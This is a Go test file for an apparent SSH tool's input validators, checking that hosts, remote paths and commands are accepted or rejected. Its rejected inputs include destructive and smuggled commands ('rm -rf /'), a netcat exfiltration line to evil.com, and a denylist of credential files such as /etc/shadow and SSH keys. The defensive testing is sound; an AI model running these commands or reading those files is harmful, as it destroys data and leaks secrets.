package validate_test

import (
	"strings"
	"testing"

	"github.com/shavali-arc/quantumxfer-sub002/internal/validate"
)

func TestPortBoundaries(t *testing.T) {
	cases := []struct {
		port  int
		valid bool
	}{
		{0, false},
		{1, true},
		{65535, true},
		{65536, false},
	}
	for _, tc := range cases {
		if got := validate.Port(tc.port).Valid; got != tc.valid {
			t.Errorf("Port(%d).Valid = %v, want %v", tc.port, got, tc.valid)
		}
	}
}

func TestUsernameBoundaries(t *testing.T) {
	u32 := strings.Repeat("a", 32)
	u33 := strings.Repeat("a", 33)
	if !validate.Username(u32).Valid {
		t.Error("32-char username should be accepted")
	}
	if validate.Username(u33).Valid {
		t.Error("33-char username should be rejected")
	}
}

func TestHostRejectsDoubleDot(t *testing.T) {
	result := validate.Host("invalid..host")
	if result.Valid {
		t.Fatal("expected invalid..host to be rejected")
	}
	if result.Errors[0].Code != validate.CodeInvalidHost {
		t.Errorf("unexpected code %s", result.Errors[0].Code)
	}
}

func TestHostAcceptsIPv4AndIPv6AndHostname(t *testing.T) {
	for _, host := range []string{"10.0.0.1", "::1", "2001:db8::1", "example.com", "my-host"} {
		if !validate.Host(host).Valid {
			t.Errorf("expected %s to be accepted", host)
		}
	}
}

func TestHostRejectsUserAtHostAndWhitespace(t *testing.T) {
	for _, host := range []string{"user@host", "exam ple.com", "host;rm -rf /"} {
		if validate.Host(host).Valid {
			t.Errorf("expected %s to be rejected", host)
		}
	}
}

func TestRemotePathRejectsTraversalAndDenylist(t *testing.T) {
	for _, p := range []string{"../etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/mem"} {
		if validate.RemotePath(p).Valid {
			t.Errorf("expected %s to be rejected", p)
		}
	}
}

func TestLocalPathAllowsSystemPaths(t *testing.T) {
	if !validate.LocalPath("/etc/hosts").Valid {
		t.Error("local path validator must not apply the remote denylist")
	}
}

func TestCommandRejectsMetacharacters(t *testing.T) {
	for _, cmd := range []string{"ls; rm -rf /", "cat /etc/passwd | nc evil.com 4444", "echo `whoami`", "echo $(whoami)"} {
		if validate.Command(cmd).Valid {
			t.Errorf("expected command %q to be rejected", cmd)
		}
	}
}

func TestCommandAcceptsOrdinaryCommand(t *testing.T) {
	if !validate.Command("ls -la").Valid {
		t.Error("expected plain command to be accepted")
	}
}

func TestCommandTimeoutAllowsZeroAndBoundaries(t *testing.T) {
	for _, seconds := range []int{0, 1, 3600} {
		if !validate.CommandTimeout(seconds).Valid {
			t.Errorf("expected timeoutSeconds=%d to be accepted", seconds)
		}
	}
}

func TestCommandTimeoutRejectsOutOfRange(t *testing.T) {
	for _, seconds := range []int{-1, 3601} {
		if validate.CommandTimeout(seconds).Valid {
			t.Errorf("expected timeoutSeconds=%d to be rejected", seconds)
		}
	}
}

func TestSSHConnectionScenarioS1(t *testing.T) {
	result := validate.SSHConnection(validate.SSHConnectionInput{
		Host:     "invalid..host",
		Port:     22,
		Username: "ubuntu",
		AuthType: "password",
		Password: "x",
	})
	if result.Valid {
		t.Fatal("expected validation failure for invalid..host")
	}
	found := false
	for _, e := range result.Errors {
		if e.Field == "host" && e.Code == validate.CodeInvalidHost {
			found = true
		}
	}
	if !found {
		t.Errorf("expected a host/INVALID_HOST error, got %+v", result.Errors)
	}
}

func TestSSHConnectionAuthMissing(t *testing.T) {
	result := validate.SSHConnection(validate.SSHConnectionInput{
		Host:     "example.com",
		Port:     22,
		Username: "ubuntu",
		AuthType: "password",
	})
	if result.Valid {
		t.Fatal("expected validation failure when password is missing")
	}
	if result.Errors[0].Code != validate.CodeAuthMissing {
		t.Errorf("expected AUTH_MISSING, got %s", result.Errors[0].Code)
	}
}
